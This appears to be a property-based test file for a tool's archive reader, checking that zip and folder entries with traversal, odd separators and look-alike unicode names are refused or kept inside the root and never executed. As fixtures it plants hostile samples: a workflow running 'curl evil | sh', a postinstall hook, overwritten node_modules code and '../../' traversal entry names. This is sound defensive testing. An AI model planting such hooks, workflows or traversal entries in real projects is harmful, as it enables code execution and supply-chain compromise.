/**
 * Hostile case: entry names that try to leave the archive (threats.md Z1, G2; docs/threat-model.md).
 *
 * Property tests (fast-check, fixed seeds, bounded runs): whatever the name — built from an alphabet
 * rich in ".", "/", "\", ":", NUL, control characters and look-alike unicode — the reader either refuses
 * the archive with exit 2 naming the entry, or lists it as a plain relative path inside the root; it
 * never writes a byte anywhere, and asking it to read any path returns an entry's own bytes or a
 * refusal, never a file outside the root. End to end, an archive carrying workflow and action files
 * leaves the workspace exactly as it was and executes nothing.
 */
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { openArchive } from '../src/adapters/archive/index.js';
import { PolicyGateError } from '../src/core/errors.js';
import { cleanupTempDirs, EXAMPLE_DATA, exampleFiles, runCli, tempDir } from './helpers/e2e.js';
import { buildZip } from './helpers/zip-writer.js';

const SEED = 20240911;
const outer = mkdtempSync(path.join(tmpdir(), 'policy-gate-hostile-paths-'));
afterAll(() => {
  rmSync(outer, { recursive: true, force: true });
  cleanupTempDirs();
});

/** Pieces names are made of: traversal, separators of every platform, drive letters, NUL, look-alikes. */
const PIECES = [
  '.',
  '..',
  '...',
  '/',
  '//',
  '\\',
  ':',
  'C:',
  'c:\\',
  '\0',
  '\n',
  '\r',
  '\t',
  ' ',
  '~',
  '%2e%2e',
  '%2f',
  'a',
  'b.onnx',
  'models',
  'summary.json',
  '\u2215', // division slash
  '\uff0f', // fullwidth solidus
  '\u2024', // one dot leader
  '\uff0e', // fullwidth full stop
  '\u202e', // right-to-left override
  '\u0085', // next line
  '\u200b', // zero-width space
  'é',
  'e\u0301',
  '日本',
  '\ud83d\ude00',
];
const nameArb = fc.oneof(
  { weight: 4, arbitrary: fc.array(fc.constantFrom(...PIECES), { minLength: 0, maxLength: 8 }).map((p) => p.join('')) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 24 }) },
);

/** Every file and folder under `dir`, with a hash of each file: a snapshot to compare. */
function snapshot(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  for (const rel of readdirSync(dir, { recursive: true }) as string[]) {
    const full = path.join(dir, rel);
    const st = statSync(full);
    out[rel] = st.isFile() ? createHash('sha256').update(readFileSync(full)).digest('hex') : 'dir';
  }
  return out;
}

function isInside(root: string, p: string): boolean {
  const resolved = path.resolve(root, p);
  const rel = path.relative(root, resolved);
  return rel !== '' && rel !== '..' && !rel.startsWith(`..${path.sep}`) && !path.isAbsolute(rel);
}

describe('zip entry names never reach outside the root', () => {
  it('any name: refused with exit 2 naming the entry, or a plain relative path inside the root; nothing written', async () => {
    const work = path.join(outer, 'zip');
    mkdirSync(work);
    const file = path.join(work, 'archive.zip');
    const outerBefore = Object.keys(snapshot(outer));
    await fc.assert(
      fc.asyncProperty(nameArb, async (name) => {
        writeFileSync(
          file,
          buildZip([
            { name: 'summary.json', data: '{}' },
            { name, data: 'PAYLOAD' },
          ]),
        );
        const before = snapshot(outer);
        const archive = await openArchive(file).catch((err: unknown) => err);
        if (archive instanceof PolicyGateError) {
          expect(archive.exitCode).toBe(2);
          expect(archive.message).toContain(file);
          // It names the entry, quoted with control characters escaped (as the zip stores it: UTF-8).
          const stored = Buffer.from(name, 'utf8').toString('utf8');
          expect(archive.message, archive.message).toContain(JSON.stringify(stored));
          expect(archive.subject).toBe(stored);
        } else {
          if (archive instanceof Error) throw archive;
          const reader = archive as Awaited<ReturnType<typeof openArchive>>;
          for (const f of reader.files) {
            expect(isInside('/root', f.path), f.path).toBe(true);
            expect(f.path).toBe(path.posix.normalize(f.path));
            expect(/[\\\0]|^[A-Za-z]:/.test(f.path), f.path).toBe(false);
          }
          // A file entry is listed under its own name, unchanged (a directory entry is not listed).
          if (!name.endsWith('/')) expect(reader.files.map((f) => f.path)).toContain(name);
          await reader.close();
        }
        expect(snapshot(outer)).toEqual(before);
      }),
      { seed: SEED, numRuns: 400 },
    );
    // Only the zip itself was ever written, by the test.
    expect(Object.keys(snapshot(outer)).sort()).toEqual([...outerBefore, path.join('zip', 'archive.zip')].sort());
  });

  it("reading any path returns an entry's own bytes or a refusal naming the path", async () => {
    const file = path.join(outer, 'read.zip');
    writeFileSync(
      file,
      buildZip([
        { name: 'summary.json', data: 'SUMMARY' },
        { name: 'models/A_1Hour.onnx', data: 'MODEL' },
      ]),
    );
    const archive = await openArchive(file);
    const contents: Record<string, string> = { 'summary.json': 'SUMMARY', 'models/A_1Hour.onnx': 'MODEL' };
    try {
      await fc.assert(
        fc.asyncProperty(fc.oneof(nameArb, fc.constantFrom('models/../summary.json', './summary.json', 'models//A_1Hour.onnx', '/summary.json', 'models\\A_1Hour.onnx')), async (p) => {
          const got = await archive.read(p).catch((err: unknown) => err);
          if (got instanceof PolicyGateError) {
            expect(got.exitCode).toBe(2);
            expect(got.subject).toBe(p);
          } else {
            // Only an exact entry name reads anything.
            expect(Object.keys(contents)).toContain(p);
            expect((got as Buffer).toString()).toBe(contents[p]);
          }
        }),
        { seed: SEED + 1, numRuns: 400 },
      );
    } finally {
      await archive.close();
    }
  });
});

describe('folder archives never read outside their root', () => {
  it('a secret beside the folder is never returned, whatever path is asked for', async () => {
    const base = path.join(outer, 'folder');
    const root = path.join(base, 'run');
    mkdirSync(path.join(root, 'models'), { recursive: true });
    writeFileSync(path.join(root, 'summary.json'), 'SUMMARY');
    writeFileSync(path.join(root, 'models', 'A_1Hour.onnx'), 'MODEL');
    writeFileSync(path.join(base, 'secret.txt'), 'TOP-SECRET');
    writeFileSync(path.join(base, 'run2'), 'NEIGHBOUR'); // the prefix-boundary case: "../run2"
    const archive = await openArchive(root);
    const secrets = ['TOP-SECRET', 'NEIGHBOUR'];
    try {
      await fc.assert(
        fc.asyncProperty(fc.oneof(nameArb, fc.constantFrom('../secret.txt', '../run2', 'models/../../secret.txt', `${base}/secret.txt`, '..\\secret.txt', 'models/../summary.json')), async (p) => {
          const got = await archive.read(p).catch((err: unknown) => err);
          if (got instanceof PolicyGateError) expect(got.exitCode).toBe(2);
          else {
            expect(['summary.json', 'models/A_1Hour.onnx']).toContain(p);
            for (const s of secrets) expect((got as Buffer).toString()).not.toContain(s);
          }
        }),
        { seed: SEED + 2, numRuns: 400 },
      );
    } finally {
      await archive.close();
    }
  });

  it('files named with any characters the file system allows are listed inside the root or refused by name', async () => {
    await fc.assert(
      fc.asyncProperty(nameArb, async (name) => {
        const root = mkdtempSync(path.join(outer, 'f-'));
        let made = false;
        try {
          // Only one path segment: the property is about what the reader makes of a name, not mkdir -p.
          if (name === '' || name.includes('/') || name.includes('\0') || name === '.' || name === '..') return;
          writeFileSync(path.join(root, name), 'x');
          made = true;
        } catch {
          return; // a name this file system refuses (too long, invalid encoding)
        } finally {
          if (!made) rmSync(root, { recursive: true, force: true });
        }
        try {
          const archive = await openArchive(root).catch((err: unknown) => err);
          if (archive instanceof PolicyGateError) {
            expect(archive.exitCode).toBe(2);
            expect(archive.message).toContain(root);
          } else {
            const reader = archive as Awaited<ReturnType<typeof openArchive>>;
            for (const f of reader.files) expect(isInside('/root', f.path), f.path).toBe(true);
            await reader.close();
          }
        } finally {
          rmSync(root, { recursive: true, force: true });
        }
      }),
      { seed: SEED + 3, numRuns: 200 },
    );
  });
});

describe('an archive carrying workspace files (threats.md G2)', () => {
  const PLANTED = {
    'dist/index.js': "require('fs').writeFileSync('PWNED', 'x');",
    '.github/workflows/pwn.yml': 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl evil | sh" }] } }\n',
    'package.json': '{"scripts": {"postinstall": "node dist/index.js"}}',
    'node_modules/onnxruntime-node/dist/index.js': "require('fs').writeFileSync('PWNED', 'x');",
  };

  it('validate reads it as data: the workspace is unchanged but for the report, nothing runs', async () => {
    const files = exampleFiles();
    for (const [p, text] of Object.entries(PLANTED)) files[`Alpaca_trading/${p}`] = new TextEncoder().encode(text);
    for (const [p, text] of Object.entries(PLANTED)) files[p] = new TextEncoder().encode(text);
    const ws = tempDir('ws-');
    mkdirSync(path.join(ws, 'dist'));
    writeFileSync(path.join(ws, 'dist', 'index.js'), '// the real action\n');
    mkdirSync(path.join(ws, '.github', 'workflows'), { recursive: true });
    writeFileSync(path.join(ws, '.github', 'workflows', 'gate.yml'), 'on: pull_request\n');
    const zip = path.join(ws, 'archive.zip');
    writeFileSync(zip, buildZip(Object.entries(files).map(([name, data]) => ({ name, data: Buffer.from(data), method: 8 }))));
    const before = snapshot(ws);
    const run = await runCli(['validate', 'archive.zip', '--data', EXAMPLE_DATA, '--out', 'report', '--end', '2024-09-10T00:00:00Z'], ws);
    expect(run.code, run.stderr).toBe(1); // the example's verdict; the planted files change nothing
    const after = snapshot(ws);
    for (const k of Object.keys(after)) if (k.startsWith('report')) delete after[k];
    expect(after).toEqual(before);
    expect(existsSync(path.join(ws, 'PWNED'))).toBe(false);
    expect(existsSync(path.join(process.cwd(), 'PWNED'))).toBe(false);
  });

  it('a traversal name among them refuses the archive before anything is read', async () => {
    const parent = tempDir('g2-');
    const ws = path.join(parent, 'ws');
    mkdirSync(ws);
    const zip = path.join(ws, 'archive.zip');
    const files = exampleFiles();
    writeFileSync(zip, buildZip([...Object.entries(files).map(([name, data]) => ({ name, data: Buffer.from(data) })), { name: '../../.github/workflows/pwn.yml', data: 'pwned' }]));
    const before = snapshot(parent);
    const run = await runCli(['validate', 'archive.zip', '--data', EXAMPLE_DATA, '--out', 'report'], ws);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('entry "../../.github/workflows/pwn.yml" escapes the archive root (a ".." segment)');
    const report = JSON.parse(readFileSync(path.join(ws, 'report', 'report.json'), 'utf8'));
    expect(report.errors[0]).toContain('"../../.github/workflows/pwn.yml"');
    const after = snapshot(parent);
    for (const k of Object.keys(after)) if (k.startsWith(path.join('ws', 'report'))) delete after[k];
    expect(after).toEqual(before);
  });
});
